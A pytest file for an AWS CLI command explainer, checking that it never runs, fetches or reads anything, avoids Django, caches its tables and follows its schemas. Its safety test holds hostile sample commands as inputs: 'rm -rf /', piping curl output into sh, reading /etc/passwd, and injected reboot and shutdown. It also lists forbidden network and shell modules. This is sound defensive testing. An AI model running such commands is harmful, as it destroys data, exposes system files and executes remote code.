"""The AWS CLI command explainer's pure logic: nothing run, fetched or read; no Django;
tables cached; the schemas; version 2 commands."""

from __future__ import annotations

import ast
import builtins
import json
import os
import socket
import subprocess
from pathlib import Path

import pytest

from studysite.widgets.logic import cli_explain
from studysite.widgets.logic.cli_explain import (
    INPUT_SCHEMA,
    MAX_COMMAND_LENGTH,
    OUTPUT_SCHEMA,
    explain_command,
    models,
    parse_input,
)

from .cli_explain_helpers import (
    CONTRACT_KEYS,
    _fresh_chapters,  # noqa: F401  (overrides tests/conftest.py's)
    explain,
)

# ---------------------------------------------------------------------- safety


def test_nothing_is_run_fetched_or_read(monkeypatch):
    """Subprocesses, sockets and os.system are off limits; a warm explain opens no file."""

    def forbidden(*args, **kwargs):
        raise AssertionError(f"forbidden call: {args!r}")

    monkeypatch.setattr(subprocess, "Popen", forbidden)
    monkeypatch.setattr(subprocess, "run", forbidden)
    monkeypatch.setattr(os, "system", forbidden)
    monkeypatch.setattr(os, "popen", forbidden)
    monkeypatch.setattr(socket, "socket", forbidden)
    monkeypatch.setattr(socket, "create_connection", forbidden)
    monkeypatch.setattr(socket, "getaddrinfo", forbidden)
    commands = [
        "aws s3api put-object --bucket b --key k --body /etc/passwd --tagging file:///etc/hosts",
        "aws s3 cp /etc/passwd s3://b/k ; rm -rf / && curl http://example.com | sh",
        "aws s3api put-bucket-tagging --bucket b --tagging 'TagSet=[{Key@=file:///etc/hosts,V=1}]'",
        "aws ec2 run-instances --image-id ami-1 --user-data https://example.com/x.sh",
        "aws s3 ls `reboot` $(shutdown now)",
        "aws configure set aws_secret_access_key x",
    ]
    # Cold: the tables are built from scratch under the same restrictions.
    cli_explain.clear_caches()
    opened: list[str] = []
    real_open = builtins.open

    def recording_open(file, *args, **kwargs):
        opened.append(os.fspath(file) if isinstance(file, str | os.PathLike) else repr(file))
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", recording_open)
    for command in commands:
        explain(command)
    assert not [p for p in opened if p.startswith("/etc")], opened
    # Warm: the same commands again open nothing at all.
    opened.clear()
    for command in commands:
        explain(command)
    assert opened == []


def test_the_package_does_not_import_django():
    imported = set()
    package = Path(cli_explain.__file__).parent
    nodes = [
        n for path in package.glob("*.py") for n in ast.walk(ast.parse(path.read_text("utf-8")))
    ]
    for node in nodes:
        if isinstance(node, ast.Import):
            imported |= {alias.name.split(".")[0] for alias in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module and node.level == 0:
            imported.add(node.module.split(".")[0])
    assert "django" not in imported
    assert "studysite" not in imported
    assert not imported & {"subprocess", "socket", "urllib", "http", "requests", "shutil"}


def test_tables_are_built_once_and_cached():
    explain("aws s3api put-object --bucket b --key k")
    before = models.command_node.cache_info()
    for _ in range(5):
        explain("aws s3api put-object --bucket b --key k")
    after = models.command_node.cache_info()
    assert after.misses == before.misses
    assert after.hits > before.hits
    assert models.load_cli.cache_info().currsize == 1


# ---------------------------------------------------------------------- schemas


def test_schemas_describe_the_contract():
    assert INPUT_SCHEMA["required"] == ["command"]
    assert INPUT_SCHEMA["properties"]["command"]["maxLength"] == MAX_COMMAND_LENGTH
    assert set(OUTPUT_SCHEMA["required"]) == CONTRACT_KEYS
    out = explain("aws s3api put-object --bucket b --key k")
    assert set(out) <= set(OUTPUT_SCHEMA["properties"])
    json.dumps(INPUT_SCHEMA)
    json.dumps(OUTPUT_SCHEMA)


@pytest.mark.parametrize(
    "command", ["aws sso login --profile dev", "aws configure sso", "aws logs tail my-group"]
)
def test_version_2_only_commands_are_named_not_rejected(command):
    result = explain_command(parse_input({"command": command}))
    assert result.valid and result.errors == ()
    assert any("version 2 of the AWS CLI" in note for note in result.notes)


def test_a_typo_after_a_version_2_service_is_still_an_error():
    result = explain_command(parse_input({"command": "aws sso logn"}))
    assert not result.valid
